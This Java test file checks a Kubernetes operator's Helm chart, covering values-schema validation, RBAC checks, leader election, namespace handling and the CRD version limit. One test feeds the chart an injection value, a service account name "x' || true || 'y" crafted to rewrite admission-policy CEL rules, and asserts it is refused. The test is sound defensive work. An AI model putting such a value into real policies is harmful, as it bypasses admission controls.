                .withApiVersion("drover.io/v1alpha1").withKind("ExecutorCluster").withName(ec.getMetadata().getName())
                .withUid(ec.getMetadata().getUid()).withController(true).build()));
        return sts;
    }

    private static io.fabric8.kubernetes.api.model.autoscaling.v1.Scale scale(String name, int replicas) {
        return new io.fabric8.kubernetes.api.model.autoscaling.v1.ScaleBuilder().withNewMetadata().withName(name)
                .withNamespace("pods-team").endMetadata().withNewSpec().withReplicas(replicas).endSpec().build();
    }

    private static StatefulSet withPod(StatefulSet sts, java.util.function.Consumer<io.fabric8.kubernetes.api.model.PodSpec> change) {
        StatefulSet copy = Serialization.clone(sts);
        change.accept(copy.getSpec().getTemplate().getSpec());
        return copy;
    }

    private static Result dryRunAs(String as, StatefulSet sts) throws Exception {
        Path file = Files.createTempFile(sts.getMetadata().getName(), ".yaml");
        Files.writeString(file, Serialization.asYaml(sts));
        return kubectl(as, "create", "--dry-run=server", "-f", file.toString());
    }

    /** A Secret manifest in vap-team labelled as the operator's, of the given type. */
    private static Path secret(String name, String type, String moreMetadata) throws IOException {
        Path file = Files.createTempFile(name, ".yaml");
        Files.writeString(file, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: " + name + "\n  namespace: vap-team\n"
                + "  labels: {app.kubernetes.io/managed-by: drover-operator}\n" + moreMetadata + "type: " + type + "\n");
        return file;
    }

    /** The chart's copy of the jvmOptions patterns (for JAVA_TOOL_OPTIONS in a pod) is the CRD's. */
    @Test
    void theChartsJvmOptionsPatternsAreTheCrds() throws Exception {
        String helpers = Files.readString(CHART.resolve("templates/_helpers.tpl"));
        assertThat(helpers).contains("{{- define \"drover-operator.jvmOptionsAllowed\" -}}\n"
                + io.drover.operator.api.v1alpha1.ExecutorClusterSpec.JVM_OPTIONS_ALLOWED + "\n{{- end -}}");
        assertThat(helpers).contains("{{- define \"drover-operator.jvmOptionsRefused\" -}}\n"
                + io.drover.operator.api.v1alpha1.ExecutorClusterSpec.JVM_XX_REFUSED + "\n{{- end -}}");
    }

    /** The ownerReferences line of a manifest's metadata: the cluster controls the object. */
    private static String labelledAndOwnedBy(ExecutorCluster ec) {
        return "  labels: {app.kubernetes.io/managed-by: drover-operator}\n" + ownedBy(ec);
    }

    private static String ownedBy(ExecutorCluster ec) {
        return "  ownerReferences: [{apiVersion: drover.io/v1alpha1, kind: ExecutorCluster, name: " + ec.getMetadata().getName()
                + ", uid: " + ec.getMetadata().getUid() + ", controller: true}]\n";
    }

    /** Two operators without a leader would both write every cluster; one without, replaced rather than surged. */
    @Test
    void moreThanOneOperatorNeedsLeaderElection() throws Exception {
        Result r = template("--set", "replicas=2", "--set", "leaderElection.enabled=false");
        assertThat(r.exit()).isNotZero();
        assertThat(r.output()).contains("replicas above 1 need leaderElection.enabled");
        Result single = template("--set", "leaderElection.enabled=false", "--show-only", "templates/deployment.yaml");
        assertThat(single.exit()).as(single.output()).isZero();
        assertThat(single.output()).contains("type: Recreate");
    }

    /**
     * Cluster-scoped objects carry the release's namespace in their names: a release of the same
     * name in another namespace (a second operator for other teams) would otherwise take over the
     * first one's ClusterRoles and admission policies.
     */
    @Test
    void releasesOfOneNameInTwoNamespacesShareNoClusterScopedObject() throws Exception {
        List<String> kinds = List.of("ClusterRole", "ClusterRoleBinding", "ValidatingAdmissionPolicy",
                "ValidatingAdmissionPolicyBinding");
        List<List<String>> names = new ArrayList<>();
        for (String ns : List.of("team-a", "team-b")) {
            Result r = template("--namespace", ns, "--set", "clusterWide=true",
                    "--set", "executorImage.allowedImages={registry.example.com/drover/}");
            assertThat(r.exit()).as(r.output()).isZero();
            List<String> these = new ArrayList<>();
            for (String doc : r.output().split("(?m)^---$")) {
                Matcher kind = Pattern.compile("(?m)^kind: (\\w+)$").matcher(doc);
                Matcher name = Pattern.compile("(?m)^  name: (\\S+)$").matcher(doc);
                if (kind.find() && kinds.contains(kind.group(1)) && name.find()) {
                    these.add(kind.group(1) + "/" + name.group(1));
                }
            }
            assertThat(these).as("the cluster-scoped objects rendered in " + ns).hasSize(12);
            names.add(these);
        }
        assertThat(names.get(0)).doesNotContainAnyElementsOf(names.get(1));
    }

    /** The chart's own ExecutorCluster goes to the release's namespace: refused where the operator would never reconcile it. */
    @Test
    void theChartsExecutorClusterMustBeInAManagedNamespace() throws Exception {
        String[] cluster = {"--set", "executorCluster.create=true", "--set", "executorCluster.spec.database.host=db",
                "--set", "executorCluster.spec.database.name=jobs", "--set", "executorCluster.spec.database.credentialsSecret.name=jobs-db"};
        List<String> unwatched = new ArrayList<>(List.of("--namespace", "ops", "--set", "watchNamespaces={team-a}"));
        unwatched.addAll(List.of(cluster));
        Result r = template(unwatched.toArray(String[]::new));
        assertThat(r.exit()).isNotZero();
        assertThat(r.output()).contains("executorCluster.create installs the ExecutorCluster in the release's namespace ops,"
                + " which this operator does not manage (watchNamespaces: team-a)");
        List<String> watched = new ArrayList<>(List.of("--namespace", "ops", "--set", "watchNamespaces={team-a,ops}"));
        watched.addAll(List.of(cluster));
        assertThat(template(watched.toArray(String[]::new)).exit()).isZero();
        List<String> own = new ArrayList<>(List.of("--namespace", "ops"));
        own.addAll(List.of(cluster));
        assertThat(template(own.toArray(String[]::new)).exit()).as("the release's namespace, managed by default").isZero();
    }

    /** The CRD's CEL rules use the CIDR library, which a 1.30 API server refuses in a new rule. */
    @Test
    void theChartRefusesAKubernetesTooOldForItsCrd() throws Exception {
        Result old = run(List.of(bin("helm"), "template", "d", CHART.toString(), "--kube-version", "1.30.9"));
        assertThat(old.exit()).isNotZero();
        assertThat(old.output()).contains("incompatible with Kubernetes v1.30.9");
    }

    /** `helm template d` of the chart for Kubernetes 1.34, with these arguments. */
    private static Result template(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of(bin("helm"), "template", "d", CHART.toString(), "--kube-version", "1.34.2"));
        command.addAll(List.of(args));
        return run(command);
    }

    private static void install(String release, String namespace, String... values) throws Exception {
        List<String> template = new ArrayList<>(List.of(bin("helm"), "template", release, CHART.toString(),
                "--namespace", namespace, "--kube-version", "1.34.2"));
        template.addAll(List.of(values));
        Result rendered = run(template);
        assertThat(rendered.exit()).as(rendered.output()).isZero();
        Path manifest = Files.createTempFile("drover-chart-rbac", ".yaml");
        Files.writeString(manifest, rendered.output());
        Result applied = kubectl("apply", "-f", manifest.toString());
        assertThat(applied.exit()).as(applied.output()).isZero();
    }

    /** `kubectl auth can-i` as the given user (impersonated by the test's admin). */
    private static boolean canI(String user, String verb, String resource, String namespace) throws Exception {
        List<String> args = new ArrayList<>(List.of("auth", "can-i", verb, resource, "--as=" + user));
        args.addAll(namespace == null ? List.of("--all-namespaces") : List.of("-n", namespace));
        String out = kubectl(args.toArray(String[]::new)).output().strip();
        String answer = out.substring(out.lastIndexOf('\n') + 1); // "yes", "no" or "no - <reason>"
        assertThat(answer).as(String.join(" ", args) + "\n" + out).matches("yes|no.*");
        return answer.equals("yes");
    }

    private static Result kubectl(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of(bin("kubectl"), "--kubeconfig", kubeconfig().toString()));
        command.addAll(List.of(args));
        return run(command);
    }

    @Test
    void valuesSchemaRefusesUnknownAndInvalidValues() throws Exception {
        Result unknown = template("--set", "threads=3");
        assertThat(unknown.exit()).isNotZero();
        assertThat(unknown.output()).contains("additional properties 'threads' not allowed");
        Result bad = template("--set", "image.pullPolicy=Sometimes");
        assertThat(bad.exit()).isNotZero();
        assertThat(bad.output()).contains("/image/pullPolicy");
        // Image references pods cannot pull (InvalidImageName), which an upgrade rolled every cluster
        // onto: white space (a values file's trailing space), none, a tag or digest in the
        // repository, a digest as the tag.
        for (String value : List.of("executorImage.repository=registry.example.com/drover ", "flowableImage.tag=0.1.0\t",
                "image.repository=", "executorImage.repository=reg.example.com/x:1.0", "executorImage.repository=reg/x@sha256:ab",
                "image.tag=sha256:" + "a".repeat(64), "flowableImage.tag=@sha256:ab", "executorImage.repository=reg/Upper")) {
            Result image = template("--set", value);
            assertThat(image.exit()).as(value).isNotZero();
            assertThat(image.output()).contains("/" + value.substring(0, value.indexOf('=')).replace('.', '/'));
        }
        assertThat(template("--set", "executorImage.repository=registry.example.com:5000/drover/executor-x",
                "--set", "executorImage.tag=2.0.1-rc_1").exit()).as("a registry with a port, a tag").isZero();
        // The ServiceAccount's name goes into the admission policies' CEL: a quote in it rewrote them.
        // Other names the API server would refuse, naming neither the value nor its key.
        for (String value : List.of("serviceAccount.name=x' || true || 'y", "serviceAccount.name=Ops", "priorityClassName=High Priority",
                "metrics.grafanaDashboard.namespace=Monitoring")) {
            Result named = template("--set", "serviceAccount.create=false", "--set", value);
            assertThat(named.exit()).as(value).isNotZero();
            assertThat(named.output()).contains("/" + value.substring(0, value.indexOf('=')).replace('.', '/'));
        }
        // podLabels may not replace the selector's labels (the Deployment would select none of its pods).
        Result relabelled = template("--set", "podLabels.app\\.kubernetes\\.io/name=x");
        assertThat(relabelled.exit()).isNotZero();
        assertThat(relabelled.output()).contains("/podLabels");
        // Every interval starts a pass over every cluster: 1ms (a typo of 1m) would be a pass without end.
        Result often = template("--set", "figuresInterval=1ms");
        assertThat(often.exit()).isNotZero();
        assertThat(often.output()).contains("/figuresInterval");
        Result interval = template("--set", "figuresInterval=1m30s");
        assertThat(interval.exit()).as("a duration the operator's config cannot read").isNotZero();
        assertThat(interval.output()).contains("/figuresInterval");
        Result set = template("--set", "secretRecheckInterval=30s", "--set", "metrics.scrapeNamespaces={monitoring,obs}",
                "--show-only", "templates/deployment.yaml");
        assertThat(set.output()).contains("name: DROVER_OPERATOR_SECRET_RECHECK_INTERVAL\n              value: \"30s\"")
                .contains("name: DROVER_OPERATOR_SCRAPE_NAMESPACES\n              value: \"monitoring,obs\"");
    }

    @Test
    void chartShipsTheCommittedCrd() throws Exception {
        assertThat(Files.readString(CHART.resolve("crds/executorclusters.drover.io-v1.yml")))
                .isEqualTo(Files.readString(TestCluster.repoRoot().resolve("crds/executorclusters.drover.io-v1.yml")));
    }

    private static Path kubeconfig() throws IOException {
        Path p = Files.createTempFile("drover-kubeconfig-chart", ".yaml");
        Files.writeString(p, TestCluster.get().kubeconfigYaml());
        return p;
    }

    private static int summaryCount(String output, String label) {
        Matcher m = Pattern.compile(label + ": (\\d+)").matcher(output);
        return m.find() ? Integer.parseInt(m.group(1)) : -1;
    }

    private static String bin(String name) {
        return TestCluster.binDir().resolve(name).toString();
    }

}
